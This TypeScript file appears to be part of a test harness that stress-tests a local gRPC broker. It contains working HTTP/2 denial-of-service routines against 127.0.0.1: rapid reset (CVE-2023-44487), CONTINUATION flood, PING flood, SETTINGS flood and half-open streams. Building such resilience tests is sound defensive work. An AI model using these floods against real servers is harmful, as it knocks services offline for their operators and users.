import { once } from "node:events";
import { connect, type Socket } from "node:net";
import {
  cancelFrame,
  continuationFrame,
  headersFrame,
  http2Opening,
  openHeadersFrame,
  pingFrame,
  settingsAckFrame,
  settingsFrame,
} from "../support/http2-frames.js";
import type { HostileAct } from "./hostile-act.js";

const fields = [
  [":method", "POST"],
  [":scheme", "http"],
  [":authority", "hostile"],
  [":path", "/singyeong.v1.SessionService/Connect"],
  ["content-type", "application/grpc"],
  ["te", "trailers"],
] as const;

/** Frames of one kind, as many as are asked for, on one connection that never reads what comes back. */
function flood(name: string, frameAt: (n: number) => Buffer, opening: readonly Buffer[] = []): HostileAct {
  return {
    name,
    async begin({ port, count }) {
      const socket = connect({ port, host: "127.0.0.1" });
      socket.on("error", () => {}); // the broker may hang up whenever it likes
      await once(socket, "connect");
      socket.write(Buffer.concat([http2Opening, settingsAckFrame, ...opening]));
      for (let n = 0; n < count && !socket.destroyed; n += 500) {
        const frames = Array.from({ length: Math.min(500, count - n) }, (_, k) => frameAt(n + k));
        if (!socket.write(Buffer.concat(frames))) await drainedOrClosed(socket);
      }
      return () => socket.destroy();
    },
  };
}

async function drainedOrClosed(socket: Socket): Promise<void> {
  const patience = AbortSignal.timeout(1_000);
  await Promise.race([once(socket, "drain", { signal: patience }), once(socket, "close")]).catch(() => {});
}

/** As many as a connection may have open: `maxConcurrentStreams`. */
const streamsOfConnection = 1_000;

/** HTTP/2 streams that are opened and never go on: calls of a session without a message. */
export const halfOpenStreams: HostileAct = {
  name: "half-open HTTP/2 streams",
  async begin({ port, count }) {
    const sockets: Socket[] = [];
    for (let opened = 0; opened < count; opened += streamsOfConnection)
      sockets.push(await withHalfOpenStreams(port, Math.min(streamsOfConnection, count - opened)));
    return () => {
      for (const socket of sockets) socket.destroy();
    };
  },
};

async function withHalfOpenStreams(port: number, count: number): Promise<Socket> {
  const socket = connect({ port, host: "127.0.0.1" });
  socket.on("error", () => {}); // the broker may hang up whenever it likes
  socket.resume();
  await once(socket, "connect");
  socket.write(Buffer.concat([http2Opening, settingsAckFrame]));
  for (let n = 0; n < count && !socket.destroyed; n += 100) {
    const frames = Array.from({ length: 100 }, (_, k) => headersFrame(2 * (n + k) + 1, fields));
    if (!socket.write(Buffer.concat(frames))) await drainedOrClosed(socket);
  }
  return socket;
}

/** Streams that are opened and cancelled at once (CVE-2023-44487). */
export const rapidReset = flood("rapid reset", (n) =>
  Buffer.concat([headersFrame(2 * n + 1, fields), cancelFrame(2 * n + 1)]),
);

/** One head that never ends (CVE-2024-27983). */
export const continuationFlood = flood(
  "CONTINUATION flood",
  () => continuationFrame(1, [["x-more", "x".repeat(100)]]),
  [openHeadersFrame(1, fields)],
);

/** Questions whose answers nobody reads (CVE-2019-9512). */
export const pingFlood = flood("PING flood", () => pingFrame("12345678"));

/** Settings that each want to be acknowledged (CVE-2019-9515). */
export const settingsFlood = flood("SETTINGS flood", () => settingsFrame);
